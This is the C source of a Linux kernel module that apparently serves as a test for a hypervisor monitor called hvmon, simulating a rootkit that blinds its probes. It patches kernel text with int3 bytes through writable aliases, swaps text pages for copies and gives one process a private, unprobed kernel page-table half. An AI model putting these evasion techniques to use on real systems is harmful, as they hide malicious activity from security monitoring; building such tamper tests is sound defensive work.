// SPDX-License-Identifier: GPL-2.0
/*
 * hvtamper — a kernel rootkit's attempts to blind hvmon's probes (issue 15,
 * docs/PROBES.md "Tampering"), loaded by tests/guest/scenarios/hvtamper.sh in
 * core_hvtest's boot. The addresses come from /proc/kallsyms (module params):
 *  1. int3_va (the tracer's kernel_execve probe): writes 0xCC over the first
 *     byte through a writable alias of its physical page (vmap, as text_poke
 *     does, but without text_poke's protocol), keeps it hold_ms, then restores
 *     the byte; a die notifier steps over the int3 if the function runs
 *     meanwhile (what a rootkit that keeps the guest alive does). Then a
 *     usermode helper runs (kernel_execve): hvmon must trace it again.
 *     int3b_va (the tracer's kernel_clone probe) gets the same int3 at the same
 *     time: a vfork parent blocked in kernel_clone since before (hvvfork wait)
 *     returns while it is there, onto hvmon's return trampoline at that very
 *     entry: hvmon must take the return (a fork event), never hand it to the
 *     guest (the function would run again: stepped_b counts such entries).
 *  2. remap_va (the tracer's do_exit probe): maps a copy of its 4 KiB page in
 *     place of the original in the kernel's page tables (splitting the 2 MiB
 *     text mapping when needed), and leaves it so: hvmon must see the remap and
 *     re-place the probe on the copy.
 *  3. silent_va, silent_vb (the tracer's kernel_clone and do_execveat_common
 *     probes): a private kernel half for ONE process (docs/PROBES.md "A private
 *     kernel half"). A process that writes to /proc/hvtamper_silent gets, in its
 *     own page-table root only, a copy of the kernel-half entry: a copied PDPT ->
 *     copied PD -> PTs whose entries for those two pages point to copies of them
 *     (read through the text address: hvmon's data view, the original bytes
 *     without its int3s); every other entry maps the kernel's own frames. The
 *     kernel's shared tables are not written, so neither the byte checks nor the
 *     write-protected page tables see anything; the process's fork and exec
 *     entries run on the unprobed copies until hvmon puts its root entry back.
 *     Its children get the kernel's own kernel half at fork (pgd_alloc copies it
 *     from swapper_pg_dir).
 *  4. hold_va (the tracer's kernel_clone probe): a process that writes "1" to
 *     /proc/hvtamper_hold gets the guest's int3 written over that entry (as in 1,
 *     a die notifier steps over it) until it writes "0": every fork meanwhile
 *     runs the guest's int3, not hvmon's probe (hvvfork hold: probes that stop
 *     firing while new processes appear, hvmon's "silent" check).
 * Every result is one "HVTAMPER: key=value" line in the kernel log.
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/gfp.h>
#include <linux/vmalloc.h>
#include <linux/delay.h>
#include <linux/kdebug.h>
#include <linux/notifier.h>
#include <linux/umh.h>
#include <linux/smp.h>
#include <linux/proc_fs.h>
#include <linux/sched.h>
#include <linux/sched/mm.h>
#include <linux/mutex.h>
#include <linux/rcupdate.h>
#include <linux/uaccess.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>

static unsigned long int3_va;
module_param(int3_va, ulong, 0444);
MODULE_PARM_DESC(int3_va, "kernel text address: write 0xCC over it for hold_ms");
static unsigned long remap_va;
module_param(remap_va, ulong, 0444);
MODULE_PARM_DESC(remap_va, "kernel text address: map a copy of its page instead of the original");
static unsigned long int3b_va;
module_param(int3b_va, ulong, 0444);
MODULE_PARM_DESC(int3b_va, "kernel text address: the same int3, at the same time");
static unsigned long silent_va, silent_vb;
module_param(silent_va, ulong, 0444);
MODULE_PARM_DESC(silent_va, "kernel text address: a private unprobed copy of its page for the process that writes /proc/hvtamper_silent");
module_param(silent_vb, ulong, 0444);
MODULE_PARM_DESC(silent_vb, "kernel text address: the same, a second page");
static unsigned long hold_va;
module_param(hold_va, ulong, 0444);
MODULE_PARM_DESC(hold_va, "kernel text address: 0xCC over it while /proc/hvtamper_hold says 1");
static unsigned int hold_ms = 1500;
module_param(hold_ms, uint, 0444);

static unsigned int int3_len, int3b_len;   /* the instructions the int3s replace (stepped over by hvt_die) */
static atomic_t int3_hits, int3b_hits;

static int hvt_die(struct notifier_block *nb, unsigned long val, void *data)
{
	struct die_args *a = data;

	/* after an int3 the saved RIP is the next byte */
	if (val == DIE_INT3 && int3_len && a->regs->ip - 1 == int3_va) {
		a->regs->ip = int3_va + int3_len;
		atomic_inc(&int3_hits);
		return NOTIFY_STOP;
	}
	if (val == DIE_INT3 && int3b_len && a->regs->ip - 1 == int3b_va) {
		a->regs->ip = int3b_va + int3b_len;
		atomic_inc(&int3b_hits);
		return NOTIFY_STOP;
	}
	return NOTIFY_DONE;
}
static struct notifier_block hvt_nb = { .notifier_call = hvt_die };

/* the physical page of a kernel text address (4 KiB or inside a 2 MiB mapping) */
static struct page *text_page(unsigned long va)
{
	unsigned int level;
	pte_t *pte = lookup_address(va, &level);

	if (!pte)
		return NULL;
	if (level == PG_LEVEL_4K)
		return pfn_to_page(pte_pfn(*pte));
	if (level == PG_LEVEL_2M)
		return pfn_to_page(pmd_pfn(*(pmd_t *)pte) + ((va & ~PMD_MASK) >> PAGE_SHIFT));
	return NULL;
}

/* one byte of kernel text through a writable alias of its page */
static int poke(unsigned long va, u8 val)
{
	struct page *pg = text_page(va);
	u8 *map;

	if (!pg)
		return -EFAULT;
	map = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	WRITE_ONCE(map[va & ~PAGE_MASK], val);
	vunmap(map);
	return 0;
}

/* the length of the first instruction when hvt_die can step over it (5-byte NOP, endbr64) */
static unsigned int step_len(const u8 *b)
{
	static const u8 nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 }, endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };

	return !memcmp(b, nop5, 5) ? 5 : !memcmp(b, endbr, 4) ? 4 : 0;
}

static void attack_int3(void)
{
	char *argv[] = { "/bin/busybox", "true", "hvtamper-umh", NULL };
	char *envp[] = { "PATH=/bin", NULL };
	u8 orig[5], origb[5] = { 0 };
	int rc, rcb = -1;

	memcpy(orig, (void *)int3_va, sizeof(orig));
	int3_len = step_len(orig);
	if (!int3_len) {
		pr_info("HVTAMPER: int3=skipped bytes=%5phN\n", orig);
		return;
	}
	if (int3b_va) {
		memcpy(origb, (void *)int3b_va, sizeof(origb));
		int3b_len = step_len(origb);
		if (!int3b_len)
			pr_info("HVTAMPER: int3b=skipped bytes=%5phN\n", origb);
	}
	register_die_notifier(&hvt_nb);
	rc = poke(int3_va, 0xcc);
	if (int3b_len)
		rcb = poke(int3b_va, 0xcc);
	msleep(hold_ms);
	if (!rc)
		rc = poke(int3_va, orig[0]);
	if (!rcb)
		rcb = poke(int3b_va, origb[0]);
	unregister_die_notifier(&hvt_nb);
	pr_info("HVTAMPER: int3=%s held_ms=%u stepped=%d restored=%d\n", rc ? "failed" : "done", hold_ms,
		atomic_read(&int3_hits), *(volatile u8 *)int3_va == orig[0]);
	if (int3b_len)
		pr_info("HVTAMPER: int3b=%s stepped_b=%d restored=%d\n", rcb ? "failed" : "done",
			atomic_read(&int3b_hits), *(volatile u8 *)int3b_va == origb[0]);
	/* a kernel-internal exec through the restored (and re-armed) probe */
	msleep(300);
	rc = call_usermodehelper(argv[0], argv, envp, UMH_WAIT_PROC);
	pr_info("HVTAMPER: umh rc=%d\n", rc);
}

static void flush_all(void *unused)
{
	__flush_tlb_all();
}

static void attack_remap(void)
{
	unsigned int level;
	pte_t *pte = lookup_address(remap_va, &level);
	struct page *copy = alloc_page(GFP_KERNEL);
	unsigned long idx = (remap_va & ~PMD_MASK) >> PAGE_SHIFT;

	if (!pte || !copy || (level != PG_LEVEL_4K && level != PG_LEVEL_2M)) {
		pr_info("HVTAMPER: remap=failed level=%u\n", pte ? level : 0);
		return;
	}
	/* the copy: read through the text address (hvmon's data view: original bytes) */
	memcpy(page_address(copy), (void *)(remap_va & PAGE_MASK), PAGE_SIZE);
	if (level == PG_LEVEL_4K) {
		set_pte(pte, pfn_pte(page_to_pfn(copy), pte_pgprot(*pte)));
	} else {
		/* split the 2 MiB mapping into 512 PTEs (as split_large_page does), one
		 * of them on the copy */
		pmd_t *pmd = (pmd_t *)pte;
		pte_t *tbl = (pte_t *)get_zeroed_page(GFP_KERNEL);
		pgprot_t prot = pgprot_large_2_4k(pmd_pgprot(*pmd));
		unsigned long base = pmd_pfn(*pmd), i;

		if (!tbl) {
			pr_info("HVTAMPER: remap=failed nomem\n");
			return;
		}
		for (i = 0; i < PTRS_PER_PTE; i++)
			tbl[i] = pfn_pte(base + i, prot);
		tbl[idx] = pfn_pte(page_to_pfn(copy), prot);
		set_pmd(pmd, __pmd(__pa(tbl) | _KERNPG_TABLE));
	}
	on_each_cpu(flush_all, NULL, 1);
	pr_info("HVTAMPER: remap=done level=%s copy_pa=%#llx\n", level == PG_LEVEL_4K ? "4k" : "2m",
		((unsigned long long)page_to_pfn(copy) << PAGE_SHIFT) + (remap_va & ~PAGE_MASK));
}

/* ---- 3. a private kernel half for one process ---------------------------- */

#define TBL(e) ((u64 *)__va((e) & PTE_PFN_MASK))

/* a zeroed page for a table or a text copy; kept for ever (the process's root
 * may point at it until it exits) */
static u64 *new_page(void)
{
	return (u64 *)get_zeroed_page(GFP_KERNEL);
}

/* the private table below entry @i of @tbl (a copy of the shared one, or, for
 * a 2 MiB leaf, a PT of 512 4 KiB entries on the same frames); @mine lists the
 * tables already private (a second page under the same table reuses it) */
static u64 *private_below(u64 *tbl, unsigned int i, u64 **mine, unsigned int *nmine)
{
	u64 e = tbl[i], *t, *n;
	unsigned int k;

	if (!(e & _PAGE_PRESENT))
		return NULL;
	t = TBL(e);
	for (k = 0; k < *nmine; k++)
		if (mine[k] == t)
			return t;
	n = new_page();
	if (!n)
		return NULL;
	if (e & _PAGE_PSE) {            /* 2 MiB leaf: split it, as split_large_page does */
		pgprot_t prot = pgprot_large_2_4k(__pgprot(e & ~PTE_PFN_MASK));
		unsigned long base = (e & PTE_PFN_MASK & PMD_MASK) >> PAGE_SHIFT;

		for (k = 0; k < PTRS_PER_PTE; k++)
			n[k] = pte_val(pfn_pte(base + k, prot));
		e = _KERNPG_TABLE;          /* a table entry now: the leaves say RO/NX */
	} else {
		memcpy(n, t, PAGE_SIZE);
	}
	mine[(*nmine)++] = n;
	tbl[i] = (e & ~PTE_PFN_MASK) | __pa(n);
	return n;
}

/* @root's kernel-half entry for @vas -> private tables with copies of their pages: the
 * entry to write in *newe, its slot in *slot (written by the caller) */
static int private_half(u64 *root, const unsigned long *vas, unsigned int nva, unsigned long *copy_pa,
			u64 *newe, unsigned int *slot)
{
	unsigned int i4 = pgd_index(vas[0]), k, nmine = 0;
	u64 *mine[8], *pud, e4 = root[i4];

	if (!(e4 & _PAGE_PRESENT) || pgtable_l5_enabled())
		return -EINVAL;             /* (Bochs: 4-level paging) */
	pud = new_page();
	if (!pud)
		return -ENOMEM;
	memcpy(pud, TBL(e4), PAGE_SIZE);
	mine[nmine++] = pud;
	for (k = 0; k < nva; k++) {
		unsigned long va = vas[k];
		u64 *pd, *pt, *copy;

		if (pgd_index(va) != i4)
			return -EINVAL;
		if (pud[pud_index(va)] & _PAGE_PSE)
			return -EINVAL;     /* 1 GiB text mapping: not on Debian's kernels */
		pd = private_below(pud, pud_index(va), mine, &nmine);
		pt = pd ? private_below(pd, pmd_index(va), mine, &nmine) : NULL;
		copy = pt ? new_page() : NULL;
		if (!copy)
			return -ENOMEM;
		memcpy(copy, (void *)(va & PAGE_MASK), PAGE_SIZE);
		pt[pte_index(va)] = (pt[pte_index(va)] & ~PTE_PFN_MASK & ~(u64)_PAGE_GLOBAL) | __pa(copy);
		copy_pa[k] = __pa(copy) + (va & ~PAGE_MASK);
	}
	*newe = (e4 & ~PTE_PFN_MASK) | __pa(pud);
	*slot = i4;
	return 0;
}

static ssize_t silent_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	unsigned long vas[2] = { silent_va, silent_vb }, cpa[2] = { 0, 0 };
	struct mm_struct *mm = current->mm;
	unsigned int slot = 0;
	u64 newe = 0;
	int rc;

	if (!mm || !silent_va || !silent_vb)
		return -EINVAL;
	/* the kernel's root of this process (with KPTI the user root is the next page) */
	mmap_write_lock(mm);
	rc = private_half((u64 *)mm->pgd, vas, 2, cpa, &newe, &slot);
	mmap_write_unlock(mm);
	/* the line first (a slow console write), the root entry last: the private half
	 * takes effect just before the return to user mode */
	pr_info("HVTAMPER: silent=%s pid=%d comm=%s copy_a=%#lx copy_b=%#lx rc=%d\n", rc ? "failed" : "done",
		task_pid_nr(current), current->comm, cpa[0], cpa[1], rc);
	if (!rc) {
		WRITE_ONCE(((u64 *)mm->pgd)[slot], newe);
		on_each_cpu(flush_all, NULL, 1);
	}
	return rc ? rc : len;
}

static const struct proc_ops silent_ops = { .proc_write = silent_write };

/* ---- 4. the guest's int3 held on a fork entry while processes appear ------ */

static unsigned int hold_len;
static u8 hold_orig;
static atomic_t hold_hits;
static DEFINE_MUTEX(hold_lock);

static int hold_die(struct notifier_block *nb, unsigned long val, void *data)
{
	struct die_args *a = data;

	if (val == DIE_INT3 && hold_len && a->regs->ip - 1 == hold_va) {
		a->regs->ip = hold_va + hold_len;
		atomic_inc(&hold_hits);
		return NOTIFY_STOP;
	}
	return NOTIFY_DONE;
}
static struct notifier_block hold_nb = { .notifier_call = hold_die };

static ssize_t hold_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	char c;
	int rc = 0;

	if (!len || get_user(c, buf))
		return -EFAULT;
	mutex_lock(&hold_lock);
	if (c == '1' && !hold_len) {
		u8 b[5];

		memcpy(b, (void *)hold_va, sizeof(b));
		hold_len = step_len(b);
		hold_orig = b[0];
		if (!hold_len) {
			rc = -EINVAL;
		} else {
			atomic_set(&hold_hits, 0);
			register_die_notifier(&hold_nb);
			rc = poke(hold_va, 0xcc);
		}
		pr_info("HVTAMPER: hold=on pid=%d comm=%s bytes=%5phN rc=%d\n", task_pid_nr(current),
			current->comm, b, rc);
	} else if (c == '0' && hold_len) {
		rc = poke(hold_va, hold_orig);
		/* a CPU may still be at the int3: the notifier stays until it is done */
		synchronize_rcu();
		unregister_die_notifier(&hold_nb);
		pr_info("HVTAMPER: hold=off stepped=%d restored=%d rc=%d\n", atomic_read(&hold_hits),
			*(volatile u8 *)hold_va == hold_orig, rc);
		hold_len = 0;
	}
	mutex_unlock(&hold_lock);
	return rc ? rc : len;
}

static const struct proc_ops hold_ops = { .proc_write = hold_write };

static int __init hvtamper_init(void)
{
	if (int3_va)
		attack_int3();
	if (remap_va)
		attack_remap();
	if (silent_va && silent_vb && !proc_create("hvtamper_silent", 0200, NULL, &silent_ops))
		pr_info("HVTAMPER: silent=failed proc\n");
	if (hold_va && !proc_create("hvtamper_hold", 0200, NULL, &hold_ops))
		pr_info("HVTAMPER: hold=failed proc\n");
	return 0;
}

module_init(hvtamper_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvmon test: attacks on hvmon's probes (issue 15)");
